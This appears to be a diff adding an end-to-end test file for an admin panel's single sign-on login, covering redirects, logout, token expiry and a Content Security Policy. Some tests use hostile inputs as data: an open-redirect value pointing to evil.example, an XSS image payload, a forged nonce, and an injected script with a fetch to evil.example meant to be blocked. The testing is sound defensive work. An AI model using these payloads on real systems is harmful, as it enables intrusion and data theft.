@@ -1,0 +1,182 @@
+import { callAs, expect, forgetEverything, signIn, test, tokenOf, urls } from './product.ts';
+
+test('AUTH-01, 03, 04, 05, 06, 07, 11, 16, 24: sign-in through the provider, registered once, then notifications', async ({ page }) => {
+  const calls: { url: string; authorization: string | undefined; body: string | null }[] = [];
+  page.on(
+    'request',
+    (request) =>
+      request.url().startsWith(urls.adminUrl) &&
+      !request.url().includes('/assets/') &&
+      calls.push({ url: request.url(), authorization: request.headers()['authorization'], body: request.postData() }),
+  );
+  const userInfo = page.waitForRequest(`${urls.issuer}/me`);
+  await page.goto(`${urls.adminUrl}/login`);
+  await expect(page.locator('input')).toHaveCount(0);
+  await signIn(page, 'admin');
+  expect((await userInfo).headers()['authorization']).toMatch(/^Bearer /);
+  await expect(page).toHaveURL(/\/notification$/);
+  await expect(page.getByRole('button', { name: 'Konto: Anna Wójcik' }).locator('img')).toHaveAttribute('src', /^data:image/);
+  await page.reload();
+  await expect(page.getByRole('heading', { name: 'Powiadomienia' })).toBeVisible();
+  const registered = calls.filter((call) => call.url.endsWith('/session/register-login'));
+  expect(registered).toHaveLength(1);
+  expect(registered[0]?.body).toBeNull();
+  for (const call of calls.filter(({ url }) => /\/(api|session)\//.test(url))) expect(call.authorization).toMatch(/^Bearer /);
+});
+
+test('AUTH-23: without a picture there is a placeholder', async ({ page }) => {
+  await signIn(page, 'staff-2');
+  await expect(page.getByRole('button', { name: 'Konto: Łucja Dąbrowska' }).locator('svg')).toBeVisible();
+});
+
+test('AUTH-15, NAV-01, 02, 27, 29, A-14: without a session every path leads to /login, with one unknown paths to the list', async ({
+  page,
+}) => {
+  for (const path of ['/', '/notification', '/notification/new', '/notification/abc', '/content', '/settings', '/nothing/here']) {
+    await page.goto(urls.adminUrl + path);
+    await expect(page).toHaveURL(/\/login/);
+  }
+  await signIn(page, 'admin');
+  for (const path of ['/', '/nothing/here', '/chart']) {
+    await page.goto(urls.adminUrl + path);
+    await expect(page).toHaveURL(/\/notification$/);
+  }
+});
+
+test('A14: after sign-in one lands where one wanted to go, and nowhere else', async ({ page }) => {
+  await page.goto(`${urls.adminUrl}/notification/new`);
+  await page.getByRole('button', { name: 'Log In' }).click();
+  await page.locator('button[value="staff-1"]').click();
+  await expect(page).toHaveURL(/\/notification\/new$/);
+  await forgetEverything(page);
+  await page.goto(`${urls.adminUrl}/login?returnTo=${encodeURIComponent('//evil.example')}`);
+  await page.getByRole('button', { name: 'Log In' }).click();
+  await page.locator('button[value="staff-1"]').click();
+  await expect(page).toHaveURL(`${urls.adminUrl}/notification`);
+});
+
+test('AUTH-22, A16: a cancelled sign-in comes back with a readable message and no session', async ({ page }) => {
+  await page.goto(`${urls.adminUrl}/login`);
+  await page.getByRole('button', { name: 'Log In' }).click();
+  await page.getByRole('button', { name: 'Cancel' }).click();
+  await expect(page.getByRole('alert')).toHaveText('Sign-in was cancelled.');
+  expect(await page.evaluate(() => localStorage.getItem('endcap.session'))).toBeNull();
+  await page.goto(`${urls.adminUrl}/login/callback?error=${encodeURIComponent('<img src=x onerror=alert(1)>')}&state=x`);
+  await expect(page.getByRole('alert')).toHaveText('Sign-in failed. Please try again.');
+});
+
+test('AUTH-19, A10, A11: a foreign state, and an answer used twice, begin no session', async ({ page }) => {
+  await page.goto(`${urls.adminUrl}/login/callback?code=stolen&state=foreign`);
+  await expect(page).toHaveURL(/problem=failed/);
+  let callback = '';
+  page.on('request', (request) => request.url().includes('/login/callback?code') && (callback = request.url()));
+  await signIn(page, 'staff-1');
+  await forgetEverything(page);
+  await page.goto(callback);
+  await expect(page).toHaveURL(/problem=failed/);
+});
+
+test('AUTH-19, A12: an answer with another nonce begins no session', async ({ page }) => {
+  await page.route(`${urls.issuer}/auth?**`, (route) =>
+    route.continue({
+      url: route
+        .request()
+        .url()
+        .replace(/nonce=[^&]+/, 'nonce=forged'),
+    }),
+  );
+  await page.goto(`${urls.adminUrl}/login`);
+  await page.getByRole('button', { name: 'Log In' }).click();
+  await page.locator('button[value="staff-1"]').click();
+  await expect(page).toHaveURL(/problem=failed/);
+});
+
+test('AUTH-02, 17, 25, TOP-09, 10, A-09, A19, A24: signing out ends it here, at the provider, in other tabs and for the token', async ({
+  page,
+  context,
+}) => {
+  await signIn(page, 'admin');
+  const token = await page.evaluate(() => JSON.parse(localStorage.getItem('endcap.session') ?? '{}').accessToken as string);
+  const other = await context.newPage();
+  await other.goto(`${urls.adminUrl}/notification`);
+  await expect(other.getByRole('heading', { name: 'Powiadomienia' })).toBeVisible();
+  await expect(page.getByRole('button', { name: 'Wyloguj', exact: true })).toBeVisible();
+  await page.getByRole('button', { name: /^Konto/ }).click();
+  await page.getByRole('menuitem', { name: 'Wyloguj się' }).click();
+  await expect(page).toHaveURL(/\/login/);
+  await expect(other).toHaveURL(/\/login/);
+  expect(await page.evaluate(() => Object.keys(localStorage).filter((key) => /session|store/.test(key)))).toEqual([]);
+  expect((await fetch(`${urls.adminUrl}/api/v1/notification-editor/list`, { headers: { authorization: `Bearer ${token}` } })).status).toBe(
+    401,
+  );
+  await page.goBack();
+  await expect(page.getByRole('heading', { name: 'Powiadomienia' })).toHaveCount(0);
+  await page.goto(`${urls.adminUrl}/login`);
+  await page.getByRole('button', { name: 'Log In' }).click();
+  await expect(page.locator('button[value="admin"]')).toBeVisible();
+});
+
+test('AUTH-12, 13: an expired token ends the session on load and while the page is open', async ({ page }) => {
+  await signIn(page, 'staff-1');
+  const expireIn = (ms: number) =>
+    page.evaluate(
+      (left) =>
+        localStorage.setItem(
+          'endcap.session',
+          JSON.stringify({ ...JSON.parse(localStorage.getItem('endcap.session') ?? '{}'), expiresAt: Date.now() + left }),
+        ),
+      ms,
+    );
+  await expireIn(2_500);
+  await page.reload();
+  await expect(page.getByRole('heading', { name: 'Powiadomienia' })).toBeVisible();
+  await expect(page).toHaveURL(/\/login/);
+  await forgetEverything(page);
+  await signIn(page, 'staff-1');
+  await expireIn(-1);
+  await page.reload();
+  await expect(page).toHaveURL(/\/login/);
+  expect(await page.evaluate(() => localStorage.getItem('endcap.session'))).toBeNull();
+});
+
+test('AUTH-14, ROLE-19: 401 ends the session, 403 does not', async ({ page }) => {
+  await signIn(page, 'no-store');
+  await expect(page.getByText('Do Twojego konta nie przypisano sklepu')).toBeVisible();
+  await expect(page).toHaveURL(/\/notification/);
+  await page.route(`**/notification-editor/list**`, (route) =>
+    route.fulfill({ status: 401, json: { error: { code: 'unauthenticated', message: '' } } }),
+  );
+  await page.reload();
+  await expect(page).toHaveURL(/\/login/);
+});
+
+test('AUTH-18: a failing register-login does not lock anybody out', async ({ page }) => {
+  await page.route('**/session/register-login', (route) => route.fulfill({ status: 500, json: {} }));
+  await signIn(page, 'staff-1');
+  await expect(page).toHaveURL(/\/notification$/);
+});
+
+test('A25, A27: scripts of others do not run, nothing is sent elsewhere, no frame may hold the page', async ({ page, problems }) => {
+  const { headers } = await fetch(`${urls.adminUrl}/login`);
+  expect(headers.get('content-security-policy')).toMatch(/script-src 'self';.*frame-ancestors 'none'/);
+  await page.goto(`${urls.adminUrl}/login`);
+  const result = await page.evaluate(async () => {
+    const script = document.createElement('script');
+    script.textContent = 'window.__pwned = true';
+    document.body.append(script);
+    const sent = await fetch('https://evil.example/', { mode: 'no-cors' }).then(
+      () => true,
+      () => false,
+    );
+    return { pwned: '__pwned' in window, sent };
+  });
+  expect(result).toEqual({ pwned: false, sent: false });
+  // The refusals themselves are written to the console.
+  expect(problems.every((problem) => /Content Security Policy/.test(problem))).toBe(true);
+  problems.length = 0;
+});
+
+test('npm run token: a token of each demo person opens what the person may', async () => {
+  for (const person of ['admin', 'staff-1', 'staff-2', 'no-store']) expect(await tokenOf(person)).toMatch(/^ey/);
+  expect((await callAs('staff-1', '/api/v1/store-editor/list')).status).toBe(403);
+});
